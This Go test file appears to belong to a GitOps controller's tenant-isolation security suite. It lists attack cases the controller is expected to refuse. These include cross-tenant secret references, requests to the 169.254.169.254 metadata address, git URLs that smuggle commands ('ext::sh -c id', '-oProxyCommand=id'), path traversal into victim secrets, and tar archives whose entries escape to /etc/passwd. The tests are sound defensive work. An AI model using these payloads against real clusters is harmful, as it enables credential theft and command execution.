package tenants

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"encoding/json"
	"net/http"
	"strings"
	"testing"

	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"

	"github.com/fluxd/fluxd/pkg/api"
	"github.com/fluxd/fluxd/test/harness"
	"github.com/fluxd/fluxd/test/harness/world"
	"github.com/fluxd/fluxd/test/upstream"
)

const (
	gitRepository  = api.GitRepositoryKind
	ociRepository  = api.OCIRepositoryKind
	bucketKind     = api.BucketKind
	helmRepository = api.HelmRepositoryKind
	helmChart      = api.HelmChartKind
	external       = api.ExternalArtifactKind

	notAuthenticated = "False/AuthenticationFailed"
	refusedAddress   = "address refused"
)

// onSecretsOfSources read the Secrets and accounts of others.
func onSecretsOfSources() map[string]attack {
	all := map[string]attack{}
	for prefix, one := range map[string]struct{ kind, field, spec, ready string }{
		"g-secret":      {gitRepository, "spec.secretRef.name", "url: http://$TRAP/r\nsecretRef: {name: 'NAME'}", notAuthenticated},
		"g-proxy":       {gitRepository, "spec.proxySecretRef.name", "url: http://$TRAP/r\nproxySecretRef: {name: 'NAME'}", notAuthenticated},
		"g-include":     {gitRepository, "spec.include[].repository.name", "url: $OWN\ninclude: [{repository: {name: 'NAME'}}]", "False/NotFound"},
		"o-secret":      {ociRepository, "spec.secretRef.name", "url: oci://$TRAP/r\nsecretRef: {name: 'NAME'}", notAuthenticated},
		"o-proxy":       {ociRepository, "spec.proxySecretRef.name", "url: oci://$TRAP/r\nproxySecretRef: {name: 'NAME'}", notAuthenticated},
		"o-certificate": {ociRepository, "spec.certSecretRef.name", "url: oci://$TRAP/r\ncertSecretRef: {name: 'NAME'}", notAuthenticated},
		"o-account":     {ociRepository, "spec.serviceAccountName", "url: oci://$TRAP/r\nserviceAccountName: 'NAME'", notAuthenticated},
		"b-secret":      {bucketKind, "spec.secretRef.name", "endpoint: $TRAP\nbucketName: apps\nsecretRef: {name: 'NAME'}", notAuthenticated},
		"b-proxy":       {bucketKind, "spec.proxySecretRef.name", "endpoint: $TRAP\nbucketName: apps\nproxySecretRef: {name: 'NAME'}", notAuthenticated},
		"b-certificate": {bucketKind, "spec.certSecretRef.name", "endpoint: $TRAP\nbucketName: apps\ncertSecretRef: {name: 'NAME'}", notAuthenticated},
		"b-login":       {bucketKind, "spec.sts.secretRef.name", "endpoint: $TRAP\nbucketName: apps\nsts: {provider: ldap, endpoint: 'http://$TRAP', secretRef: {name: 'NAME'}}", notAuthenticated},
		"b-login-cert":  {bucketKind, "spec.sts.certSecretRef.name", "endpoint: $TRAP\nbucketName: apps\nsts: {provider: ldap, endpoint: 'http://$TRAP', certSecretRef: {name: 'NAME'}}", notAuthenticated},
		"r-secret":      {helmRepository, "spec.secretRef.name", "url: http://$TRAP\nsecretRef: {name: 'NAME'}", notAuthenticated},
		"r-certificate": {helmRepository, "spec.certSecretRef.name", "url: http://$TRAP\ncertSecretRef: {name: 'NAME'}", notAuthenticated},
	} {
		says := []string{"mallory/"}
		all = merged(all, spelled(prefix, attack{fields: []string{one.kind + " " + one.field}, kind: one.kind, spec: one.spec, ready: one.ready, says: says}))
	}
	return all
}

// onRemotes lead to hosts that hand out credentials, to files of the process, or to what
// others may read.
func onRemotes() map[string]attack {
	const metadata = "169.254.169.254"
	return map[string]attack{
		"g-metadata":  {fields: []string{"GitRepository spec.url"}, kind: gitRepository, spec: "url: http://" + metadata + "/latest", ready: "False/GitOperationFailed", says: []string{refusedAddress}},
		"g-mapped":    {fields: []string{"GitRepository spec.url"}, kind: gitRepository, spec: "url: 'http://[::ffff:" + metadata + "]/latest'", ready: "False/GitOperationFailed", says: []string{refusedAddress}},
		"g-redirect":  {fields: []string{"GitRepository spec.url"}, kind: gitRepository, spec: "url: http://$REDIRECT/latest", ready: "False/GitOperationFailed", says: []string{refusedAddress}},
		"g-file":      {fields: []string{"GitRepository spec.url"}, kind: gitRepository, spec: "url: file:///etc", refused: "spec.url"},
		"g-ext":       {fields: []string{"GitRepository spec.url"}, kind: gitRepository, spec: "url: 'ext::sh -c id'", refused: "spec.url"},
		"g-option":    {fields: []string{"GitRepository spec.url"}, kind: gitRepository, spec: "url: 'ssh://-oProxyCommand=id/r'", ready: notAuthenticated, says: []string{"spec.secretRef"}},
		"g-same":      {fields: []string{"GitRepository spec.url"}, kind: gitRepository, spec: "url: $GUARDED/private", ready: notAuthenticated},
		"g-from-path": {fields: []string{"GitRepository spec.include[].fromPath"}, kind: gitRepository, spec: "url: $OWN\ninclude: [{repository: {name: repo}, fromPath: ../../../etc, toPath: x}]", ready: "False/CopyFailure", says: []string{"spec.include[0].fromPath"}},
		"g-account":   {fields: []string{"GitRepository spec.serviceAccountName"}, kind: gitRepository, spec: "url: https://dev.azure.com/a/b/_git/c\nprovider: azure\nserviceAccountName: deployer", ready: "False/FeatureGateDisabled", says: []string{"spec.serviceAccountName"}},
		"g-cloud":     {fields: []string{"GitRepository spec.url"}, kind: gitRepository, spec: "url: https://$TRAP/a/b\nprovider: azure", ready: notAuthenticated},
		"g-verify":    {fields: []string{"GitRepository spec.verify.secretRef.name"}, kind: gitRepository, spec: "url: $OWN\nverify: {mode: HEAD, secretRef: {name: '../../victim/secrets/treasure'}}", ready: "False/VerificationError"},
		"o-metadata":  {fields: []string{"OCIRepository spec.url"}, kind: ociRepository, spec: "url: oci://" + metadata + "/r\ninsecure: true", ready: "False/OCIArtifactPullFailed", says: []string{refusedAddress}},
		"o-redirect":  {fields: []string{"OCIRepository spec.url"}, kind: ociRepository, spec: "url: oci://$REDIRECT/r\ninsecure: true", ready: "False/OCIArtifactPullFailed", says: []string{refusedAddress}},
		"o-verify":    {fields: []string{"OCIRepository spec.verify.secretRef.name"}, kind: ociRepository, spec: "url: oci://$IMAGES/r\ninsecure: true\nverify: {provider: cosign, secretRef: {name: '../../victim/secrets/treasure'}}", ready: "False/VerificationError", says: []string{"spec.verify.secretRef"}},
		"o-root":      {fields: []string{"OCIRepository spec.verify.trustedRootSecretRef.name"}, kind: ociRepository, spec: "url: oci://$IMAGES/r\ninsecure: true\nverify: {provider: cosign, trustedRootSecretRef: {name: '../../victim/secrets/treasure'}}", ready: "False/VerificationError", says: []string{"spec.verify.trustedRootSecretRef"}},
		"o-identity":  {fields: []string{"OCIRepository spec.serviceAccountName"}, kind: ociRepository, spec: "url: oci://$TRAP/r\nprovider: aws\nserviceAccountName: deployer", ready: "False/FeatureGateDisabled", says: []string{"spec.serviceAccountName"}},
		"o-cloud":     {fields: []string{"OCIRepository spec.url"}, kind: ociRepository, spec: "url: oci://$TRAP/r\nprovider: gcp", ready: notAuthenticated},
		"b-metadata":  {fields: []string{"Bucket spec.endpoint"}, kind: bucketKind, spec: "endpoint: " + metadata + "\ninsecure: true\nbucketName: apps\nregion: x", ready: "False/BucketOperationFailed", says: []string{refusedAddress}},
		"b-redirect":  {fields: []string{"Bucket spec.endpoint"}, kind: bucketKind, spec: "endpoint: $REDIRECT\ninsecure: true\nbucketName: apps\nregion: x", ready: "False/BucketOperationFailed"},
		"b-name":      {fields: []string{"Bucket spec.bucketName"}, kind: bucketKind, spec: "endpoint: $TRAP\ninsecure: true\nbucketName: ../private\nregion: x", ready: "False/BucketOperationFailed"},
		"b-account":   {fields: []string{"Bucket spec.serviceAccountName"}, kind: bucketKind, spec: "endpoint: s3.amazonaws.com\nprovider: aws\nregion: eu-west-1\nbucketName: apps\nserviceAccountName: deployer", ready: "False/FeatureGateDisabled", says: []string{"spec.serviceAccountName"}},
		"b-service":   {fields: []string{"Bucket spec.sts.endpoint"}, kind: bucketKind, spec: "endpoint: s3.amazonaws.com\nprovider: aws\nregion: eu-west-1\nbucketName: apps\nsts: {provider: aws, endpoint: 'https://$TRAP'}", ready: notAuthenticated, says: []string{"STS endpoint"}},
		// A token of the identity of the process goes to Azure alone.
		"b-azure":    {fields: []string{"Bucket spec.endpoint"}, kind: bucketKind, spec: "endpoint: https://$TRAP\nprovider: azure\nbucketName: apps", ready: notAuthenticated, says: []string{"spec.endpoint"}},
		"r-metadata": {fields: []string{"HelmRepository spec.url"}, kind: helmRepository, spec: "url: http://" + metadata, ready: "False/Failed", says: []string{refusedAddress}},
		"r-redirect": {fields: []string{"HelmRepository spec.url"}, kind: helmRepository, spec: "url: http://$REDIRECT", ready: "False/Failed", says: []string{refusedAddress}},
		"c-verify": {
			fields: []string{"HelmChart spec.verify.secretRef.name", "HelmRelease spec.chart.spec.verify.secretRef.name"}, kind: helmChart,
			before: "apiVersion: source.toolkit.fluxcd.io/v1\nkind: HelmRepository\nmetadata: {name: c-verify, namespace: NS}\nspec: {type: oci, insecure: true, url: 'oci://$IMAGES/charts'}\n",
			spec:   "chart: small\nsourceRef: {kind: HelmRepository, name: c-verify}\nverify: {provider: cosign, secretRef: {name: '../../victim/secrets/treasure'}}", ready: "False/VerificationError", says: []string{"spec.verify.secretRef"},
		},
	}
}

// onServices have fluxd ask services that only it reaches. What they answer is no
// source, and is not told.
func onServices() map[string]attack {
	all := map[string]attack{}
	for how, host := range map[string]string{"served": "$SERVED", "denied": "$DENIED", "broken": "$BROKEN"} {
		for prefix, one := range map[string]struct{ kind, field, spec string }{
			"g": {gitRepository, "spec.url", "url: http://HOST/r"},
			"o": {ociRepository, "spec.url", "url: oci://HOST/r\ninsecure: true"},
			"b": {bucketKind, "spec.endpoint", "endpoint: HOST\ninsecure: true\nbucketName: apps\nregion: x"},
			"r": {helmRepository, "spec.url", "url: http://HOST"},
			"l": {bucketKind, "spec.sts.endpoint", "endpoint: HOST\ninsecure: true\nbucketName: apps\nregion: x\nsts: {provider: ldap, endpoint: 'http://HOST', secretRef: {name: ldap}}"},
		} {
			if prefix == "g" && how == "denied" {
				continue // what a Git server says when it refuses is meant for whoever asks
			}
			name := prefix + "-" + how
			a := attack{fields: []string{one.kind + " " + one.field}, kind: one.kind, spec: strings.ReplaceAll(one.spec, "HOST", host), fails: true}
			if prefix == "l" {
				a.spec = strings.ReplaceAll(a.spec, "name: ldap", "name: "+name)
				a.before = "apiVersion: v1\nkind: Secret\nmetadata: {name: " + name + ", namespace: NS}\nstringData: {username: a, password: b}\n"
			}
			all[name] = a
		}
		name := "k-service-" + how
		all[name] = attack{
			fields: []string{"Kustomization spec.kubeConfig.secretRef.name"}, kind: kustomization, fails: true, files: files{"a.yaml": mine(name)},
			before: kubeconfig(name, "{server: 'http://"+host+"'}", "{token: x}"), spec: "kubeConfig: {secretRef: {name: " + name + "}}",
		}
	}
	return all
}

// archive packs entries of any kind.
func archive(entries ...tar.Header) []byte {
	var out bytes.Buffer
	z := gzip.NewWriter(&out)
	w := tar.NewWriter(z)
	for _, h := range entries {
		text := h.Uname // the content; nobody needs the name of the user
		h.Uname = ""
		h.Mode, h.Size = 0o644, int64(len(text))
		if h.Typeflag == tar.TypeSymlink || h.Typeflag == tar.TypeLink {
			h.Size = 0
		}
		if err := w.WriteHeader(&h); err != nil {
			panic(err)
		}
		if _, err := w.Write([]byte(text)); err != nil && h.Size > 0 {
			panic(err)
		}
	}
	if err := w.Close(); err != nil {
		panic(err)
	}
	if err := z.Close(); err != nil {
		panic(err)
	}
	return out.Bytes()
}

// serveArchive serves files as an archive.
func serveArchive(t *testing.T, content files) (*trap, []byte) {
	t.Helper()
	packed, err := upstream.Archive(content)
	if err != nil {
		t.Fatal(err)
	}
	return newTrap(t, func(w http.ResponseWriter, _ *http.Request) { _, _ = w.Write(packed) }), packed
}

func prefix(with string, content files) files {
	out := files{}
	for name, text := range content {
		out[with+name] = text
	}
	return out
}

// patch merges a change into the status of an object, as the administrator.
func patch(w *world.World, resource, name string, change map[string]any) {
	w.T.Helper()
	text, err := json.Marshal(change)
	if err != nil {
		w.T.Fatal(err)
	}
	w.Kubectl("patch", resource, name, "--subresource=status", "--type=merge", "-p", string(text))
}

// onTrees have archives reach out of where they are unpacked.
func onTrees() map[string]attack {
	file := func(name, text string) tar.Header { return tar.Header{Name: name, Typeflag: tar.TypeReg, Uname: text} }
	link := func(name, to string) tar.Header {
		return tar.Header{Name: name, Linkname: to, Typeflag: tar.TypeSymlink}
	}
	// consumed has a Kustomization use an archive that an ExternalArtifact offers.
	consumed := func(packed []byte, says ...string) attack {
		return attack{
			fields: []string{"ExternalArtifact status.artifact.url", "ExternalArtifact status.artifact.digest"}, kind: external,
			then: func(w *world.World, name string) {
				server := newTrap(w.T, func(rw http.ResponseWriter, _ *http.Request) { _, _ = rw.Write(packed) })
				patchStatus(w, "externalartifact", name, offered(server.URL+"/a.tar.gz", packed))
				consume(w, name, says...)
			},
		}
	}
	at := func(url string, says ...string) attack {
		return attack{
			fields: []string{"ExternalArtifact status.artifact.url"}, kind: external,
			then: func(w *world.World, name string) {
				patchStatus(w, "externalartifact", name, offered(url, nil))
				consume(w, name, says...)
			},
		}
	}
	return map[string]attack{
		"e-above":    consumed(archive(file("../../a.yaml", mine("e-above"))), "ArtifactFailed", "../../a.yaml"),
		"e-absolute": consumed(archive(file("/tmp/a.yaml", mine("e-absolute"))), "ArtifactFailed", "/tmp/a.yaml"),
		"e-symlink":  consumed(archive(link("a.yaml", "/etc/passwd"), file("kustomization.yaml", "resources: [a.yaml]")), "BuildFailed", "a.yaml"),
		"e-ladder":   consumed(archive(link("up", ".."), file("up/a.yaml", mine("e-ladder")), file("kustomization.yaml", "configMapGenerator: [{name: a, files: [up/etc/passwd]}]")), "Failed", "up"),
		"e-device":   consumed(archive(tar.Header{Name: "a", Typeflag: tar.TypeChar, Devmajor: 1, Devminor: 3}), "ArtifactFailed"),
		"e-hardlink": consumed(archive(tar.Header{Name: "a.yaml", Linkname: "/etc/passwd", Typeflag: tar.TypeLink}), "ArtifactFailed"),
		"e-metadata": at("http://169.254.169.254/latest/meta-data", "ArtifactFailed", refusedAddress),
		"e-file":     at("file:///etc/passwd", "ArtifactFailed", "not one of http or https"),
		// The API server answers, and what it says is told to nobody.
		"e-api": {
			fields: []string{"ExternalArtifact status.artifact.url"}, kind: external,
			then: func(w *world.World, name string) {
				patchStatus(w, "externalartifact", name, offered(door+"/api/v1/explain/kustomization/victim/app", nil))
				consume(w, name, "ArtifactFailed", "401")
			},
		},
	}
}

// consume waits for a Kustomization of an ExternalArtifact to end in a way that has some
// words in its reason or message.
func consume(w *world.World, name string, says ...string) {
	w.T.Helper()
	a := attack{kind: kustomization, spec: "path: ./\nsourceRef: {kind: ExternalArtifact, name: " + name + "}"}
	w.Create(a.manifest(name))
	w.Wait(harness.Kustomized, name, func(obj *unstructured.Unstructured) bool {
		short, message := world.Condition(obj, api.ConditionReady)
		for _, part := range says {
			if !strings.HasPrefix(short, "False/") || !strings.Contains(short+" "+message, part) {
				return false
			}
		}
		return true
	})
}
